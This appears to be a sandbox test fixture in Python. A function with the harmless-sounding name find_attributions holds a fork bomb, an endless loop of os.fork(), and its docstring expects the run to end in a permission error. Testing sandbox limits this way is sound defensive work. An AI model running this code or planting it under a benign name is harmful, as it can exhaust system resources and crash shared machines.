"""Tries to start processes without end.  Ends: error in your code.  Says: Operation not permitted|Permission denied|PermissionError."""


def find_attributions(text):
    import os

    while True:
        os.fork()
